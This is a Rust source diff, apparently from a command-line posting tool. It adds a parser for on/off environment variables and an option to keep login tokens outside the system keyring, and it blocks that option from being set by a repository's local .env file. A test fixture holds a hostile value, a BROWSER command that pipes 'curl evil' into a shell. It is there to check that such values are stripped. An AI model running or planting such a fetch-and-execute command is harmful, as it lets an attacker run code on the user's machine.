@@ -116,6 +116,20 @@ pub fn is_ci(value: Option<&str>) -> bool {
     })
 }
 
+/// An on/off variable: `1`, `true`, `yes`, `on` or `0`, `false`, `no`, `off` (any case); unset
+/// or empty is off. Anything else is returned, for an error: a switch that weakens how secrets
+/// are kept is not guessed at.
+pub fn switch(value: Option<&str>) -> std::result::Result<bool, String> {
+    let Some(value) = value.map(str::trim).filter(|v| !v.is_empty()) else {
+        return Ok(false);
+    };
+    match value.to_ascii_lowercase().as_str() {
+        "1" | "true" | "yes" | "on" => Ok(true),
+        "0" | "false" | "no" | "off" => Ok(false),
+        _ => Err(value.to_owned()),
+    }
+}
+
 /// One configuration name: what it is and where to find it.
 struct Name {
     var: &'static str,
@@ -145,9 +159,11 @@ const OAUTH1: [Name; 4] = [
     },
 ];
 
-/// Variables that name a command to run: taken from the environment or a file given with
-/// `--env-file`, never from a `./.env` found in the working directory.
-const COMMANDS: [&str; 1] = ["BROWSER"];
+/// Variables that name a command to run, or take the login's tokens out of the keyring:
+/// taken from the environment or a file given with `--env-file`, never from a `./.env` found
+/// in the working directory (a cloned repository's `.env` could otherwise have the next login's
+/// tokens written to a file, in a state directory of its choosing).
+const COMMANDS: [&str; 2] = ["BROWSER", "XPOST_INSECURE_STORAGE"];
 
 /// Removes from an implicit `./.env`'s variables those it may not set ([`COMMANDS`]);
 /// returns their names.
@@ -262,6 +278,22 @@ impl Env {
     /// consent.
     pub fn ci(&self) -> bool {
         is_ci((self.lookup)("CI").as_deref())
+    }
+
+    /// Whether the login's tokens are to be kept in its file rather than the system's keyring:
+    /// `flag` (`--insecure-storage`), else `XPOST_INSECURE_STORAGE` ([`switch`]).
+    pub fn insecure_storage(&self, flag: bool) -> Result<bool> {
+        let name = "XPOST_INSECURE_STORAGE";
+        let value = switch(self.get(name).as_deref()).map_err(|text| {
+            Error::config(format!(
+                "{name} is {:?}, which is neither on (1, true, yes) nor off (0, false, no)",
+                crate::sanitize::outside(&text)
+            ))
+            .hint(format!(
+                "set {name}=1 to keep the login's tokens in its file, or unset it"
+            ))
+        })?;
+        Ok(flag || value)
     }
 
     /// Where logins are kept: `XPOST_HOME`, else `$XDG_STATE_HOME/xpost` (when absolute), else
@@ -940,12 +972,16 @@ mod tests {
         let mut vars: HashMap<String, String> = [
             ("BROWSER", "sh -c 'curl evil | sh'"),
             ("XPOST_HOME", "/home/me/xpost"),
+            ("XPOST_INSECURE_STORAGE", "1"),
             ("X_CLIENT_ID", "id"),
         ]
         .into_iter()
         .map(|(k, v)| (k.to_owned(), v.to_owned()))
         .collect();
-        assert_eq!(only_named_files(&mut vars), ["BROWSER"]);
+        assert_eq!(
+            only_named_files(&mut vars),
+            ["BROWSER", "XPOST_INSECURE_STORAGE"]
+        );
         assert!(!vars.contains_key("BROWSER"));
         assert_eq!(vars.len(), 2, "the rest is kept: {vars:?}");
     }
@@ -1014,6 +1050,30 @@ mod tests {
         assert!(env(&[("CI", "true")]).ci());
         assert!(!env(&[("CI", "false")]).ci());
         assert!(!env(&[]).ci());
+    }
+
+    #[test]
+    fn insecure_storage_is_on_off_or_an_error() {
+        for on in ["1", "true", "YES", " on "] {
+            assert_eq!(switch(Some(on)), Ok(true), "{on:?}");
+        }
+        for off in ["", " ", "0", "false", "No", "off"] {
+            assert_eq!(switch(Some(off)), Ok(false), "{off:?}");
+        }
+        assert_eq!(switch(None), Ok(false));
+        assert_eq!(switch(Some("maybe")), Err("maybe".to_owned()));
+        let on = env(&[("XPOST_INSECURE_STORAGE", "1")]);
+        assert!(on.insecure_storage(false).unwrap());
+        let off = env(&[("XPOST_INSECURE_STORAGE", "no")]);
+        assert!(!off.insecure_storage(false).unwrap());
+        // --insecure-storage wins over an "off".
+        assert!(off.insecure_storage(true).unwrap());
+        assert!(!env(&[]).insecure_storage(false).unwrap());
+        let junk = env(&[("XPOST_INSECURE_STORAGE", "\u{1b}[2Jkeyring please")]);
+        let err = junk.insecure_storage(false).unwrap_err();
+        assert_eq!(err.exit(), Exit::Config);
+        assert!(err.to_string().contains("XPOST_INSECURE_STORAGE"), "{err}");
+        assert!(!err.to_string().contains('\u{1b}'), "{err}");
     }
 
     const KEYS: &[(&str, &str)] = &[
